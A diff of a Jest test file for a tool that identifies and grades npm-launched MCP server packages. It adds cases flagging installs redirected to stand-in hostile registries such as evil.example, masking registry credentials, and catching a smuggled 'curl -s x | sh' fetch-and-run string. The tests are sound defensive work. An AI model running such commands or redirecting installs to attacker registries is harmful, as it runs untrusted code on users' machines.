@@ -1,7 +1,8 @@
 import { describe, expect, it } from '@jest/globals'
 import { identifyServer } from '../../src/resolve/identify.js'
+import type { RawLaunch } from '../../src/config/types.js'
 import type { PackageIdentity } from '../../src/resolve/types.js'
-import { commandEntry } from './server-entry.js'
+import { commandEntry, entry } from './server-entry.js'
 
 const FS = '@modelcontextprotocol/server-filesystem'
 const FS_PURL = 'pkg:npm/%40modelcontextprotocol/server-filesystem@2026.8.31'
@@ -178,7 +179,7 @@ const cases: Case[] = [
   {
     source: 'synthetic: npm x --package=… -- bin',
     command: 'npm',
-    args: ['--registry=https://r.example', 'x', '--package=@s/p@1.0.0', '--', 'p'],
+    args: ['--registry=https://registry.npmjs.org/', 'x', '--package=@s/p@1.0.0', '--', 'p'],
     expected: pinned('@s/p', '1.0.0', 'pkg:npm/%40s/p@1.0.0', 'npm exec')
   },
   {
@@ -224,7 +225,7 @@ describe('identifyServer: npm', () => {
     )
     const notes = r.notes.join('\n')
     expect(notes).toContain('https://npm.corp.example/')
-    expect(notes).not.toContain('s3cretpw')
+    expect(JSON.stringify(r.package) + notes).not.toContain('s3cretpw')
   })
 
   it('identifies git specs as npm, not pinned, with a note on an exact commit', () => {
@@ -382,5 +383,260 @@ describe('identifyServer: npm bridges to remote servers', () => {
   it('runs mcp-remote without a URL as an ordinary package', () => {
     const r = identifyServer(commandEntry('npx', ['mcp-remote@0.1.38', '--help']))
     expect(r.package).toEqual(pinned('mcp-remote', '0.1.38', 'pkg:npm/mcp-remote@0.1.38'))
+  })
+})
+
+/** The identity of a registry spec installed from another registry: ungradeable. */
+function otherRegistry(
+  name: string,
+  versionSpec: string | null,
+  url: string,
+  launcher = 'npx'
+): PackageIdentity {
+  return {
+    ecosystem: 'npm',
+    name,
+    versionSpec,
+    version: null,
+    pinned: false,
+    purl: null,
+    launcher,
+    resolution: {
+      status: 'n/a',
+      message: `installs from another registry (${url}): the package that runs is not the one on the public registry`
+    }
+  }
+}
+
+describe('identifyServer: npm from another registry', () => {
+  it.each<{
+    source: string
+    launch: Partial<RawLaunch>
+    expected: PackageIdentity
+    setting: string
+  }>([
+    {
+      source: 'review: npx --registry https://evil/ pkg@1.2.3',
+      launch: { command: 'npx', args: ['--registry', 'https://evil/', 'pkg@1.2.3'] },
+      expected: otherRegistry('pkg', '1.2.3', 'https://evil/'),
+      setting: '--registry'
+    },
+    {
+      source: 'synthetic: --registry=URL, unpinned',
+      launch: { command: 'npx', args: ['-y', '--registry=https://npm.corp.example', 'pkg'] },
+      expected: otherRegistry('pkg', null, 'https://npm.corp.example/'),
+      setting: '--registry'
+    },
+    {
+      source: 'synthetic: --@scope:registry URL (value in the next argument)',
+      launch: {
+        command: 'npx',
+        args: ['--@acme:registry', 'https://npm.acme.example/', '@acme/mcp@2.0.0']
+      },
+      expected: otherRegistry('@acme/mcp', '2.0.0', 'https://npm.acme.example/'),
+      setting: '--@acme:registry'
+    },
+    {
+      source: 'synthetic: npm --registry … exec',
+      launch: {
+        command: 'npm',
+        args: ['--registry', 'https://evil.example/', 'exec', '--', 'pkg@1.0.0']
+      },
+      expected: otherRegistry('pkg', '1.0.0', 'https://evil.example/', 'npm exec'),
+      setting: '--registry'
+    },
+    {
+      source: 'review: npm_config_registry in env',
+      launch: {
+        command: 'npx',
+        args: ['-y', 'pkg@1.2.3'],
+        env: { npm_config_registry: 'https://evil.example/npm/' }
+      },
+      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/npm/'),
+      setting: 'env npm_config_registry'
+    },
+    {
+      source: 'review: NPM_CONFIG_REGISTRY in env, for pnpm dlx too',
+      launch: {
+        command: 'pnpm',
+        args: ['dlx', 'pkg@1.2.3'],
+        env: { NPM_CONFIG_REGISTRY: 'https://evil.example' }
+      },
+      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/', 'pnpm dlx'),
+      setting: 'env NPM_CONFIG_REGISTRY'
+    },
+    {
+      source: 'synthetic: the registry set by the launch itself (export in bash -c)',
+      launch: {
+        command: 'bash',
+        args: ['-c', 'export NPM_CONFIG_REGISTRY=https://evil.example/ && npx -y pkg@1.2.3']
+      },
+      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/'),
+      setting: 'env NPM_CONFIG_REGISTRY'
+    },
+    {
+      source: 'synthetic: the registry set before a command line written into `command`',
+      launch: { command: 'npm_config_registry=https://evil.example/ npx -y pkg@1.2.3' },
+      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/'),
+      setting: 'env npm_config_registry'
+    },
+    {
+      source: 'synthetic: an override wins over a bridge (the bridge code comes from there)',
+      launch: {
+        command: 'npx',
+        args: ['--registry', 'https://evil.example/', 'mcp-remote@0.1.38', 'https://mcp.example/']
+      },
+      expected: otherRegistry('mcp-remote', '0.1.38', 'https://evil.example/'),
+      setting: '--registry'
+    },
+    {
+      source: 'synthetic: deno run npm: reads NPM_CONFIG_REGISTRY too',
+      launch: {
+        command: 'deno',
+        args: ['run', 'npm:pkg@1.0.0'],
+        env: { NPM_CONFIG_REGISTRY: 'https://evil.example/' }
+      },
+      expected: otherRegistry('pkg', '1.0.0', 'https://evil.example/', 'deno'),
+      setting: 'env NPM_CONFIG_REGISTRY'
+    }
+  ])('$source', ({ launch, expected, setting }) => {
+    const r = identifyServer(entry(launch))
+    expect(r.package).toEqual(expected)
+    expect(r.notes.some((n) => n.startsWith(`${setting} installs packages from `))).toBe(true)
+  })
+
+  it('uses credentials for a private registry as a reason not to grade', () => {
+    for (const key of [
+      'npm_config__authToken',
+      'NPM_CONFIG__AUTH',
+      'npm_config_//npm.pkg.github.com/:_authToken'
+    ]) {
+      const r = identifyServer(
+        entry({ command: 'npx', args: ['-y', 'pkg@1.2.3'], env: { [key]: 'not-a-real-token' } })
+      )
+      expect(r.package).toMatchObject({ version: null, purl: null, pinned: false })
+      expect(r.package.resolution).toEqual({
+        status: 'n/a',
+        message: `uses credentials for a private registry (env ${key}): the package that runs may not be the one on the public registry`
+      })
+      expect(JSON.stringify(r.package) + r.notes.join('\n')).not.toContain('not-a-real-token')
+    }
+  })
+
+  it('keeps grading the default public registry, however it is written', () => {
+    for (const url of [
+      'https://registry.npmjs.org',
+      'https://registry.npmjs.org/',
+      'HTTPS://REGISTRY.NPMJS.ORG:443/'
+    ]) {
+      const r = identifyServer(
+        entry({
+          command: 'npx',
+          args: ['--registry', url, 'pkg@1.2.3'],
+          env: { npm_config_registry: url }
+        })
+      )
+      expect(r.package).toEqual(pinned('pkg', '1.2.3', 'pkg:npm/pkg@1.2.3'))
+    }
+    // Plain http is not the default registry: anyone on the path can change the package.
+    const http = identifyServer(
+      entry({ command: 'npx', args: ['--registry', 'http://registry.npmjs.org', 'pkg@1.2.3'] })
+    )
+    expect(http.package.version).toBeNull()
+  })
+
+  it('masks a token in the registry URL (Gemfury-style) and drops user info and query', () => {
+    const token = 'AbCdEf0123456789xyzQWEabcd'
+    const r = identifyServer(
+      entry({
+        command: 'npx',
+        args: [
+          '--registry',
+          `https://me:s3cretpw@npm-proxy.fury.io/${token}/acme/?t=q1w2e3`,
+          'pkg@1.2.3'
+        ]
+      })
+    )
+    expect(r.package.resolution.message).toBe(
+      'installs from another registry (https://npm-proxy.fury.io/…/acme/): the package that runs is not the one on the public registry'
+    )
+    const text = JSON.stringify(r.package) + r.notes.join('\n')
+    for (const secret of [token, 's3cretpw', 'q1w2e3']) expect(text).not.toContain(secret)
+  })
+
+  it('says so when the registry is not a URL (a variable reference)', () => {
+    const r = identifyServer(
+      entry({
+        command: 'npx',
+        args: ['-y', 'pkg@1.2.3'],
+        env: { npm_config_registry: '${env:REG}' }
+      })
+    )
+    expect(r.package.resolution.message).toBe(
+      'installs from another registry (a location that is not a URL (a variable or a local path)): the package that runs is not the one on the public registry'
+    )
+  })
+
+  it('leaves git, tarball and path specs alone (the registry does not matter for them)', () => {
+    const r = identifyServer(
+      entry({ command: 'npx', args: ['--registry', 'https://evil/', 'github:o/r#main'] })
+    )
+    expect(r.package.resolution).toEqual({
+      status: 'n/a',
+      message: 'a git dependency is not a registry version'
+    })
+  })
+
+  it('notes another npm user config file, and NODE_OPTIONS that preload code', () => {
+    const r = identifyServer(
+      entry({
+        command: 'npx',
+        args: ['--userconfig', '/tmp/npmrc', '-y', 'pkg@1.2.3'],
+        env: { NODE_OPTIONS: '--max-old-space-size=4096 --require=/tmp/hook.js --import ./x.mjs' }
+      })
+    )
+    expect(r.package).toEqual(pinned('pkg', '1.2.3', 'pkg:npm/pkg@1.2.3'))
+    expect(r.notes).toContain(
+      'npm settings are read from another user config file, which can change the registry'
+    )
+    expect(r.notes).toContain(
+      'NODE_OPTIONS preloads code (--require, --import): it runs inside every Node.js process the server starts, and is not part of what is graded'
+    )
+    expect(r.notes.join('\n')).not.toContain('hook.js')
+    // Corpus (anthropics/claude-code): a memory limit preloads nothing.
+    const plain = identifyServer(
+      entry({
+        command: 'npx',
+        args: ['-y', 'pkg@1.2.3'],
+        env: { NODE_OPTIONS: '--max-old-space-size=4096' }
+      })
+    )
+    expect(plain.notes.join('\n')).not.toContain('NODE_OPTIONS')
+  })
+})
+
+describe('identifyServer: npm call strings', () => {
+  it('reads npx -c like a shell string', () => {
+    const one = identifyServer(
+      commandEntry('npx', ['-p', 'pkg@1.2.3', '-c', 'cd /srv && pkg --stdio'])
+    )
+    expect(one.package).toEqual(pinned('pkg', '1.2.3', 'pkg:npm/pkg@1.2.3'))
+    const two = identifyServer(
+      commandEntry('npx', ['-p', 'pkg@1.2.3', '-c', 'pkg; curl -s x | sh'])
+    )
+    expect(two.package).toMatchObject({
+      ecosystem: 'unknown',
+      name: 'pkg',
+      resolution: { status: 'n/a', message: 'runs several commands: pkg, curl, sh' }
+    })
+    expect(two.notes[0]).toMatch(/^the `npx -c` string runs 3 commands that can run code/)
+  })
+
+  it('reads pnpm dlx -c (shell mode) like a shell string', () => {
+    const r = identifyServer(commandEntry('pnpm', ['dlx', '-c', 'good; evil']))
+    expect(r.package).toMatchObject({
+      ecosystem: 'unknown',
+      resolution: { status: 'n/a', message: 'runs several commands: good, evil' }
+    })
   })
 })
